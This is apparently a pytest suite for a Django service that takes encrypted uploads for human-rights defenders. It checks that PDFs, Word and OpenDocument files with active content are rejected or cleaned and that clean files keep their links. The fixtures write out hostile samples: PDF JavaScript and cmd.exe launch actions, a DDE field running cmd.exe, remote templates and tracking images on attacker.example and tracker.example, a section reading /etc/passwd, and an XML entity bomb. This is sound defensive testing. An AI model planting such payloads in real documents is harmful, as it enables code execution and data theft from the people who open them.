"""Hostile documents: what runs or reaches out when a caseworker opens a file is refused (or, for a
PDF, left behind when it is written anew), PDF metadata is dropped, and clean documents still pass."""

from __future__ import annotations

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from protect.crypto.errors import UploadRejected
from protect.crypto.files import open_decrypted, store_upload
from protect.crypto.models import EncryptedFile
from protect.defenders.services import defender_create
from protect.public.forms import UPLOAD_ERRORS, public_error
from tests.documents import R, W, docx_bytes, odt_bytes, pdf_bytes

pytestmark = pytest.mark.django_db


@pytest.fixture
def owner(coordinator):
    return defender_create(by=coordinator, pseudonym="Owner", legal_name="File Owner", country="GT")


def _store(owner, name: str, content: bytes) -> EncryptedFile:
    return store_upload(uploaded_file=SimpleUploadedFile(name, content), owner=owner)


def _plain(file: EncryptedFile) -> bytes:
    return b"".join(open_decrypted(file))


def _refused(owner, files_dir, name: str, content: bytes) -> str:
    with pytest.raises(UploadRejected) as caught:
        _store(owner, name, content)
    assert not EncryptedFile.objects.exists()
    assert not [p for p in files_dir.rglob("*") if p.is_file()] if files_dir.exists() else True
    return caught.value.code


# --- PDF ------------------------------------------------------------------------------------

HOSTILE_PDFS = {
    "open action running JavaScript": pdf_bytes(
        catalog_extra=b"/OpenAction 6 0 R", extra_objects=(b"<< /S /JavaScript /JS (app.alert(1)) >>",)),
    "open action with escaped names": pdf_bytes(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "document-level script": pdf_bytes(
        catalog_extra=b"/Names << /JavaScript 6 0 R >>",
        extra_objects=(b"<< /Names [(init) 7 0 R] >>", b"<< /S /JavaScript /JS (app.alert(2)) >>")),
    "page-open action": pdf_bytes(page_extra=b"/AA << /O << /S /JavaScript /JS (app.alert(3)) >> >>"),
    "open action calling out": pdf_bytes(catalog_extra=b"/OpenAction << /S /URI /URI (http://tracker.example/p) >>"),
    "link launching a program": pdf_bytes(
        page_extra=b"/Annots [6 0 R]",
        extra_objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>",)),
    "form posting to a server": pdf_bytes(
        page_extra=b"/Annots [6 0 R]",
        extra_objects=(b"<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] "
                       b"/A << /S /SubmitForm /F << /FS /URL /F (http://tracker.example/) >> >> >>",)),
    "embedded file": pdf_bytes(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        extra_objects=(b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                       b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")),
    "XFA form": pdf_bytes(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
                          extra_objects=(b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream",)),
}


@pytest.mark.parametrize("case", list(HOSTILE_PDFS))
def test_a_pdf_with_active_content_is_refused_and_nothing_is_stored(owner, files_dir, case):
    assert _refused(owner, files_dir, "report.pdf", HOSTILE_PDFS[case]) == "active_content"


def test_a_pdf_whose_body_is_html_is_refused(owner, files_dir):
    html = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
    assert _refused(owner, files_dir, "report.pdf", html) == "bad_type"


def test_html_hidden_after_a_real_pdf_is_left_behind_when_it_is_written_anew(owner):
    hidden = b"<html><script>alert(document.cookie)</script></html>"
    stored = _store(owner, "report.pdf", pdf_bytes() + hidden)
    cleaned = _plain(stored)
    assert cleaned.startswith(b"%PDF-") and b"<script" not in cleaned
    assert len(pikepdf.open(io.BytesIO(cleaned)).pages) == 1


def test_a_clean_pdf_passes_without_its_metadata(owner):
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc:creator>Real Name Of The Defender</dc:creator></x:xmpmeta>"
    original = pdf_bytes(
        catalog_extra=b"/Metadata 6 0 R /OpenAction [3 0 R /Fit] /PieceInfo << /App << /Private (Real Name) >> >>",
        page_extra=b"/Annots [7 0 R]",
        extra_objects=(b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n" % len(xmp) + xmp + b"\nendstream",
                       b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org/) >> >>"),
    )
    stored = _store(owner, "report.pdf", original)
    cleaned = _plain(stored)
    assert (stored.extension, stored.size) == ("pdf", len(cleaned))
    assert b"Real Name" not in cleaned and b"SpyWriter" not in cleaned
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert "/Info" not in pdf.trailer and "/Metadata" not in pdf.Root and "/PieceInfo" not in pdf.Root
        assert len(pdf.pages) == 1
        assert pdf.pages[0].Annots[0].A.URI == "https://example.org/"  # a link a person clicks stays


# --- DOCX -----------------------------------------------------------------------------------

HOSTILE_DOCX = {
    "external template": docx_bytes(
        settings='<w:attachedTemplate r:id="rId1"/>',
        settings_rels=f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
                      'Target="http://attacker.example/t.dotm" TargetMode="External"/>'),
    "image loaded from outside": docx_bytes(
        document_rels=f'<Relationship Id="rId5" Type="{R}/image" Target="http://tracker.example/p.png" '
                      'TargetMode="External"/>'),
    "ActiveX control": docx_bytes(
        body='<w:p><w:r><w:object><w:control r:id="rId7" w:name="Evil"/></w:object></w:r></w:p>',
        document_rels=f'<Relationship Id="rId7" Type="{R}/control" Target="activeX/activeX1.xml"/>',
        content_types='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        parts={"word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'}),
    "ActiveX control in a part of any name": docx_bytes(
        body=f'<w:p><w:r><x:control xmlns:x="{W}" r:id="rId7"/></w:r></w:p>'),
    "DDE field split across runs": docx_bytes(body=(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText>'
        '</w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')),
    "picture field loading from outside": docx_bytes(
        body='<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://tracker.example/p.png" \\d \'/></w:p>'),
    "hyperlink to a network share": docx_bytes(
        document_rels=f'<Relationship Id="rId5" Type="{R}/hyperlink" Target="file://attacker.example/share" '
                      'TargetMode="External"/>'),
    "macros": docx_bytes(parts={"word/vbaProject.bin": "macro"}),
    "embedded OLE object": docx_bytes(parts={"word/embeddings/oleObject1.bin": "ole"}),
}


@pytest.mark.parametrize("case", list(HOSTILE_DOCX))
def test_a_word_document_with_active_content_or_outside_references_is_refused(owner, files_dir, case):
    assert _refused(owner, files_dir, "letter.docx", HOSTILE_DOCX[case]) == "active_content"


def test_a_word_document_with_entity_declarations_is_refused_unread(owner, files_dir):
    bomb = ('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
            f'<w:ftr xmlns:w="{W}"><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:ftr>')
    assert _refused(owner, files_dir, "letter.docx", docx_bytes(parts={"word/footer1.xml": bomb})) == "bad_type"


def test_a_clean_word_document_passes_byte_for_byte_links_included(owner):
    original = docx_bytes(
        body='<w:p><w:hyperlink r:id="rId5"><w:r><w:t>our site</w:t></w:r></w:hyperlink>'
             '<w:fldSimple w:instr=" PAGE "/></w:p>',
        document_rels=f'<Relationship Id="rId5" Type="{R}/hyperlink" Target="https://example.org/" '
                      'TargetMode="External"/>')
    stored = _store(owner, "letter.docx", original)
    assert stored.extension == "docx" and _plain(stored) == original


# --- ODT ------------------------------------------------------------------------------------

MACRO = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
HOSTILE_ODT = {
    "event listener run on open": odt_bytes(scripts=(
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        f'script:event-name="dom:load" xlink:href="{MACRO}"/></office:event-listeners></office:scripts>')),
    "event listener under another prefix": odt_bytes(body=(
        '<text:p><ev:event-listener xmlns:ev="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'ev:event-name="dom:mouseover"/></text:p>')),
    "link running a macro": odt_bytes(body=f'<text:p><text:a xlink:href="{MACRO}">Open</text:a></text:p>'),
    "image loaded from outside": odt_bytes(
        body='<text:p><draw:frame><draw:image xlink:href="http://tracker.example/p.png"/></draw:frame></text:p>'),
    "section read from a local file": odt_bytes(
        body='<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/></text:section>'),
    "OLE object": odt_bytes(body='<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>'),
    "DDE connection": odt_bytes(body='<text:p><text:dde-connection text:connection-name="x">1</text:dde-connection></text:p>'),
    "Basic macros": odt_bytes(parts={"Basic/Standard/Module1.xml": "<module/>"}),
}


@pytest.mark.parametrize("case", list(HOSTILE_ODT))
def test_an_opendocument_text_with_scripts_or_outside_references_is_refused(owner, files_dir, case):
    assert _refused(owner, files_dir, "letter.odt", HOSTILE_ODT[case]) == "active_content"


def test_a_clean_opendocument_text_passes_byte_for_byte_links_and_pictures_included(owner):
    original = odt_bytes(body=(
        '<text:p><text:a xlink:href="https://example.org/">our site</text:a></text:p>'
        '<text:p><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame></text:p>'))
    stored = _store(owner, "letter.odt", original)
    assert stored.extension == "odt" and _plain(stored) == original


# --- what the uploader reads ----------------------------------------------------------------


def test_the_public_form_explains_a_refused_document_in_the_page_language():
    refusal = UploadRejected("…", code="active_content")
    field, english, known = public_error(refusal, {})
    assert (field, known) == ("attachments", True) and "macros" in english
    with translation.override("fr"):
        assert public_error(refusal, {})[1] != english
    assert "bad_type" in UPLOAD_ERRORS
